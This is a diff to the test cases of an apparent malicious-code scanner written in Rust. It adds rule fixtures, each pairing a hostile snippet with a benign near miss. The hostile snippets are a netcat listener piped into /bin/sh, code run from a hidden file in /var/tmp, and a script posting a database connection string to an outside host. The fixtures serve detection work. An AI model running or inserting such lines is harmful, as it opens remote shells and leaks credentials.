@@ -19,6 +19,14 @@ fn scan_file(file: &str, text: &str) -> Vec<Finding> {
 
 /// (rule, file the text sits in, positive, near miss)
 const CASES: &[(&str, &str, &str, &str)] = &[
+    // malbench69: a class the published benchmarks' dev half missed,
+    // with its honest neighbour as the near miss.
+    (
+        "hidden-file-run",
+        "scripts/warm.py",
+        "exec(compile(open(\"/var/tmp/.warm-cache\").read(), \"warm\", \"exec\"))",
+        "exec(compile(open(\"/tmp/build/settings.py\").read(), \"settings\", \"exec\"))",
+    ),
     // redteam68: the classes batch 68's first scan missed, each with its
     // honest neighbour as the near miss.
     (
@@ -2833,6 +2841,21 @@ fn every_rule_has_a_positive_case_and_a_near_miss() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // malbench69: a netcat listener or connection piped into a shell runs
+    // a remote peer's commands; piped into `tar` it is a transfer.
+    (
+        "reverse-shell",
+        "scripts/relay.sh",
+        "nc -lvnp 9001 | /bin/sh",
+        "nc -l 9001 | tar -xf - -C incoming/",
+    ),
+    // malbench69: a database's connection string carries its password.
+    (
+        "carried-secret",
+        "scripts/report.py",
+        "dsn = os.environ[\"DATABASE_URL\"]\nrequests.post(\"https://db-insights.app/ingest\", json={\"uri\": dsn})",
+        "dsn = os.environ[\"DATABASE_URL\"]\nrows = count_rows(dsn)\nrequests.post(\"https://db-insights.app/ingest\", json={\"rows\": rows})",
+    ),
     // Batch 68 (redteam68): `.env` contents put in requests to a
     // backticked address, and PowerShell's history by its property.
     (
